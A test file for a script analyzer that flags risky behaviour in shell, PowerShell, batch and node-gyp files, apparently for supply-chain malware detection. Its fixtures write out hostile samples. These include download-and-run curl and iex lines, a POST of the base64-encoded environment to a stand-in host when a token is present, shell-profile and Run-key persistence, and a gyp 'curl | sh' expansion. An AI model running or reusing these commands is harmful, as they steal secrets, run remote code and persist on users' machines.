import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { gypFacts } from '../../src/extract/gyp.js'
import { isShellScript, shellFacts } from '../../src/extract/shell.js'

const told = (path: string, text: string): string[] =>
  shellFacts(path, text).map(({ draft }) => `${draft.kind} ${draft.value}`)

describe('isShellScript', () => {
  it.each([
    ['x.sh', '', true],
    ['x.PS1', '', true],
    ['x.bat', '', true],
    ['bin/x', '#!/bin/sh\n', true],
    ['bin/x', '#!/usr/bin/env bash\n', true],
    ['bin/x', '#!/usr/bin/env node\n', false],
    ['x.js', '', false],
    ['bash.md', '# bash', false],
  ])('%s %j: %s', (path, head, is) => {
    expect(isShellScript(path, head)).toBe(is)
  })
})

describe('shellFacts', () => {
  const INSTALLER = `#!/bin/sh
set -e
URL="https://a.example/p"
install() {
  curl -fsSL "$URL" -o /tmp/p
  chmod +x /tmp/p
  /tmp/p --quiet
}
if [ -n "$GITHUB_TOKEN" ]; then
  DATA=$(env | base64)
  curl -s -X POST -d "$DATA" https://b.example/in
fi
cat >> ~/.bashrc <<EOF
curl https://c.example | sh
EOF
for rc in ~/.zshrc ~/.profile; do echo x >> "$rc"; done
`
  it('reads a script with its variables, functions, loops and here-documents', () => {
    const facts = told('i.sh', INSTALLER)
    expect(facts).toEqual(
      expect.arrayContaining([
        'net.host a.example',
        'code.eval net shell',
        'env.read GITHUB_TOKEN',
        'data.flow env:* -> net:b.example',
        'env.bulk net',
        'persistence ~/.bashrc',
        'persistence ~/.zshrc',
        'persistence ~/.profile',
      ]),
    )
    expect(facts).not.toContain('net.host c.example')
  })

  it('says where', () => {
    const found = shellFacts('i.sh', INSTALLER).find(({ draft }) => draft.value === 'net shell')
    expect(INSTALLER.slice(found?.offset)).toMatch(/^\/tmp\/p --quiet/)
  })

  it('reads PowerShell and batch files', () => {
    expect(
      told(
        'i.ps1',
        `$u = "https://a.example/p.exe"\nInvoke-WebRequest -Uri $u -OutFile p.exe\nStart-Process p.exe\nif ($env:API_TOKEN) { iex ((New-Object Net.WebClient).DownloadString('https://b.example/s')) }`,
      ),
    ).toEqual(
      expect.arrayContaining(['net.host a.example', 'net.host b.example', 'code.eval net shell', 'env.read API_TOKEN']),
    )
    expect(
      told(
        'i.bat',
        '@echo off\r\ncurl -o p.exe https://a.example/p.exe\r\nstart p.exe\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d p.exe\r\n',
      ),
    ).toEqual(expect.arrayContaining(['net.host a.example', 'code.eval net shell', 'persistence Run key']))
  })

  it.each([
    [
      'a build',
      'i.sh',
      '#!/bin/sh\nset -eu\ncd "$(dirname "$0")/.."\nexport NODE_ENV=production\nrm -f dist.tgz\nnpx tsc -p .\nnode scripts/copy.js\n',
      ['fs.delete dist.tgz', 'process.spawn npx tsc -p .', 'process.spawn node scripts/copy.js'],
    ],
    ['comments', 'i.sh', '# curl https://a.example | sh\n\n', []],
    ['words', 'i.sh', 'echo "Run curl https://a.example | sh to install"\n', []],
    [
      'cmdlets',
      'i.ps1',
      '# x\n$ErrorActionPreference = "Stop"\nWrite-Host "curl https://a.example"\nTest-Path x\n',
      [],
    ],
    ['a shim', 'x.cmd', '@ECHO off\r\nSETLOCAL\r\n', []],
  ])('ordinary: %s', (_, path, text, facts) => {
    expect(told(path, text)).toEqual(facts)
  })

  it('never throws', () => {
    const piece = fc.constantFrom(
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '|',
      '&',
      ';',
      '\n',
      '<<E\n',
      'E\n',
      '<(',
      '>',
      '${',
      '}',
      '{',
      '$x ',
      'x=',
      'curl ',
      'https://a.example ',
      'for f in ',
      '; do ',
      'function f ',
      '@"\n',
      '"@\n',
      '%A%',
    )
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 80 }),
        fc.constantFrom('a.sh', 'a.ps1', 'a.bat'),
        (parts, path) => {
          shellFacts(path, parts.join(''))
        },
      ),
    )
  })
})

describe('gypFacts', () => {
  const commands = (text: string): string[] =>
    gypFacts(text).flatMap(({ draft }) => (draft.kind === 'install.script' ? [String(draft.detail.command)] : []))

  it('finds expansions and actions', () => {
    expect(
      commands(`# a comment with '<!(not this)'
      { 'targets': [ { "target_name": "a", 'include_dirs': ["<!@(node -p \\"require('node-addon-api').include\\")"],
        'actions': [ { 'action_name': 'x', 'inputs': [], 'action': ['node', 'build.js', '<(PRODUCT_DIR)'] } ],
        'libraries': '<!(pkg-config --libs ' 'glib)', } ] }`),
    ).toEqual([
      `node -p "require('node-addon-api').include"`,
      "node build.js '<(PRODUCT_DIR)'",
      'pkg-config --libs glib',
    ])
  })

  it('says what they do', () => {
    expect(
      gypFacts(`{'variables': {'x': '<!(curl https://a.example/i | sh)'}}`).map(
        ({ draft }) => `${draft.kind} ${draft.value}`,
      ),
    ).toEqual(
      expect.arrayContaining([
        'install.script binding.gyp: curl https://a.example/i | sh',
        'net.host a.example',
        'code.eval net shell',
      ]),
    )
  })

  it.each([
    '',
    '{}',
    `{'targets': [{'target_name': 'a', 'sources': ['a.cc'], 'action_name': 'x'}]}`,
    '<!(',
    "{'a': '<!(",
  ])('nothing runs: %s', (text) => {
    expect(commands(text)).toEqual([])
  })

  it('never throws', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom("'", '"', '<!(', '<!@(', ')', '[', ']', 'action', ':', ',', '\\', '#', '\n', 'node x'),
          { maxLength: 60 },
        ),
        (parts) => void gypFacts(parts.join('')),
      ),
    )
  })
})
